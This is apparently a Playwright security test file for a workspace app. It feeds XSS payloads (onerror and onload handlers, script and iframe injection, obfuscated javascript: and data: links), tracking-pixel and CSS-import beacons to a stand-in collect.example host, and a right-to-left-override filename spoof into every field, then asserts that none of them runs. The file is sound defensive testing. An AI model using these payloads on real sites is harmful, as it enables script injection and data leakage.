import type { JsonObject } from '#base';
import { test as onBareHost } from '../fixtures/bareHost';
import { expect, test as onOwnServer } from '../fixtures/test';
import { linkTo, workspaceJson } from '../material/workspaces';
import type { Planloom } from '../pages/planloom';
import { Sharing } from '../pages/sharing';

/** Texts that become code, markup or requests where a page is careless. Each calls `hit` if it ever runs. */
const HOSTILE = [
  '<img src=x onerror="hit()">',
  '<svg/onload=hit()><script>hit()</script>',
  '"><iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  "'-hit()-'`hit()`",
  '<a href="jav&#x09;ascript:hit()">open</a>',
  '[open](javascript:hit()) [data](data:text/html,<script>hit()</script>) [tab](java\tscript:hit())',
  '![pixel](https://collect.example/pixel.png?q=secret) <https://collect.example/auto>',
  '<style>@import url(https://collect.example/x.css)</style><link rel=prefetch href=https://collect.example/>',
  'admin\u202Egpj.exe\u2066\u200B',
] as const;
const ALL = HOSTILE.join('\n\n');

for (const [where, test] of [
  ['', onOwnServer],
  [', T9 also on a host without headers', onBareHost],
] as const) {
  test.describe(`I10 case B1 case B4 what comes from outside stays text${where}`, () => {
    test.beforeEach(async ({ page }) => {
      await page.addInitScript(() =>
        Reflect.set(globalThis, 'hit', () => Reflect.set(globalThis, 'wasHit', true)),
      );
    });

    for (const [what, text] of [
      ['an element', HOSTILE[0]],
      ['all of them', ALL],
    ] as const) {
      test(`${what}, in every name and text of a workspace`, async ({ app }) => {
        await app.open(linkTo(hostileWorkspace(text)));
        await expect(app.canvas.getByRole('group').first()).toBeVisible();
        for (const node of await app.canvas.getByRole('group').all()) await node.click();
        await app.canvas.press('Escape');
        for (const tab of ['Outline', 'State view', 'Canvas'])
          await app.page.getByRole('tab', { name: tab, exact: true }).click();
        await app.button('Trust').click();
        const { trust } = new Sharing(app);
        await expect(trust).toContainText(plain(text));
        await trust.getByRole('button', { name: 'Keep restricted' }).click();
        await app
          .panel('Documents')
          .getByRole('button', { name: /markdown/ })
          .click();
        await expect(app.page.getByRole('dialog')).toBeVisible();
        await expectInert(app);
      });
    }

    test('in what a run hands round: values, answers, questions, errors', async ({ app }) => {
      const plan: JsonObject = {
        ...workspaceJson(`
          out answer
          start: START
          say: CAPABILITY echo {output: {answer: "result.text"}}
          ask: HUMAN_INPUT Well? {decisions: [yes]}
          fail: CAPABILITY table.load {input: {document: missing}}
          end: END
          result {answer: "{{ answer }}"}
          start -> say -> ask
          ask.yes -> fail -> end
        `),
      };
      const text = JSON.stringify(plan)
        .replace(
          '"id":"say","type":"CAPABILITY",',
          `"id":"say","type":"CAPABILITY","input":{"text":${JSON.stringify(ALL)}},`,
        )
        .replace('"Well?"', JSON.stringify(ALL))
        .replace('"missing"', JSON.stringify(HOSTILE[0]));
      await app.open(linkTo(text));
      await app.run();
      await new Sharing(app).trust.getByRole('button', { name: 'Trust', exact: true }).click();
      await app.expectRun('waiting');
      for (const tab of ['Ledger', 'Plan attempts', 'Costs', 'Timeline'])
        await app.page.getByRole('tab', { name: tab, exact: true }).click();
      await app.openTab('Outline');
      await app
        .panel('Outline')
        .getByRole('button', { name: /succeeded/ })
        .last()
        .click();
      await expect(app.panel('Inspector')).toBeVisible();
      await app.panel('Variables').getByRole('button').first().click();
      await app.page.getByRole('form').getByRole('button', { name: 'yes' }).click();
      await app.expectRun('failed');
      await expect(
        app.page.getByRole('alert').or(app.page.getByText('<img src=x onerror')).first(),
      ).toBeVisible();
      await expectInert(app);
    });
  });
}

onOwnServer(
  'fault B3 fault D2 case B4 a picture of a document is loaded only when asked for, with its whole address shown',
  async ({ app, network, complaints }) => {
    const address = 'https://collect.example/pixel.png?q=1';
    network.allow('https://collect.example');
    // At first the server lets no other page read it.
    await app.page.route('https://collect.example/**', (route) => route.abort(), { times: 1 });
    const documents = [{ id: 'notes', name: 'Notes', kind: 'markdown', text: `![a chart](${address})` }];
    await app.open(linkTo(workspaceJson('start: START', { documents })));
    await app.panel('Documents').getByRole('button', { name: /Notes/ }).click();
    await expect(app.page.getByRole('button', { name: address })).toBeVisible();
    expect(network.to('https://collect.example')).toEqual([]);

    // Faults B3 and D2: our own policy lets it be shown, and a server that does not is told, with a way on.
    complaints.expectConsole(/Failed to load resource/);
    await app.page.getByRole('button', { name: address }).click();
    const refusal = app.page.getByRole('alert').filter({ hasText: 'lets no other page read its pictures' });
    await expect(refusal.getByRole('link', { name: `Open ${address}` })).toHaveAttribute('rel', /noopener/);
    await app.page.route('https://collect.example/**', (route) =>
      route.fulfill({ contentType: 'image/svg+xml', body: DOT }),
    );
    await app.open(linkTo(workspaceJson('start: START', { documents, id: 'again' })));
    await app.panel('Documents').getByRole('button', { name: /Notes/ }).click();
    await app.page.getByRole('button', { name: address }).click();
    const shown = app.page.getByRole('img', { name: 'a chart' });
    await expect.poll(() => shown.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(3);
    expect(network.to('https://collect.example').map(({ headers }) => headers.cookie)).toEqual([
      undefined,
      undefined,
    ]);
  },
);

const DOT = '<svg xmlns="http://www.w3.org/2000/svg" width="3" height="3"><rect width="3" height="3"/></svg>';

onOwnServer(
  'case B5 a name that turns the writing direction turns nothing of what is said about it',
  async ({ app }) => {
    await app.open(linkTo(workspaceJson('start: START', { name: 'harmless \u202E', id: 'turned' })));
    await app.button('Trust').click();
    const { trust } = new Sharing(app);
    await expect(trust).toContainText('came from outside');
    const [first = 0, last = 0] = await trust.evaluate((dialog) => {
      const words = document.createTreeWalker(dialog, NodeFilter.SHOW_TEXT);
      while (words.nextNode()) {
        const at = words.currentNode.textContent?.indexOf('came') ?? -1;
        if (at < 0) continue;
        return [at, at + 3].map((offset) => {
          const letter = document.createRange();
          letter.setStart(words.currentNode, offset);
          letter.setEnd(words.currentNode, offset + 1);
          return letter.getBoundingClientRect().left;
        });
      }
      return [];
    });
    expect(first).toBeLessThan(last);
  },
);

/** Every string that an author chooses is the hostile one. */
function hostileWorkspace(text: string): JsonObject {
  const plan = workspaceJson(`
    start: START
    note: NOTE x
    ask: HUMAN_INPUT Well? {decisions: [yes]}
    fill: FILL_TEMPLATE x
    say: CAPABILITY echo
    end: END
    start -> ask
    ask.yes -> fill -> say -> end
  `);
  const plans = Array.isArray(plan.plans) ? plan.plans : [];
  return {
    ...plan,
    name: text,
    plans: plans.map((one) => renamed(one, text)),
    connections: [{ id: 'theirs', kind: 'openai-compatible' }],
    models: [{ id: 'model', name: text, connection: 'theirs', model: text }],
    documents: [{ id: 'notes', name: text, kind: 'markdown', text }],
  };
}

function renamed(plan: unknown, text: string): JsonObject {
  const copy: JsonObject & { nodes: JsonObject[] } = JSON.parse(JSON.stringify(plan));
  return {
    ...copy,
    name: text,
    description: text,
    nodes: copy.nodes.map((node) => ({
      ...node,
      name: text,
      ...(node.type === 'NOTE' ? { params: { markdown: text } } : {}),
      ...(node.type === 'HUMAN_INPUT'
        ? { params: { message: text, timeoutMs: null, decisions: [{ id: 'yes', label: text }] } }
        : {}),
    })),
  };
}

/** The text as a page shows it in running text. */
function plain(text: string): string {
  return text.replace(/\s+/g, ' ').slice(0, 30).trim();
}

/** Nothing ran, nothing was made of the text, and no link leads anywhere but to the web. */
async function expectInert(app: Planloom): Promise<void> {
  const found = await app.page.evaluate(() => ({
    wasHit: Reflect.get(globalThis, 'wasHit') ?? false,
    elements: [
      ...document.querySelectorAll(
        'iframe, object, embed, base, body script, body style, body link, body img',
      ),
    ].map((element) => element.outerHTML.slice(0, 80)),
    links: [...document.querySelectorAll('a[href], area[href], form[action]')]
      .map((element) => element.getAttribute('href') ?? element.getAttribute('action') ?? '')
      .filter((href) => !/^(https?:|blob:)/.test(href)),
    handlers: [...document.querySelectorAll('*')].flatMap((element) =>
      element.getAttributeNames().filter((name) => name.startsWith('on')),
    ),
  }));
  expect(found).toEqual({ wasHit: false, elements: [], links: [], handlers: [] });
}
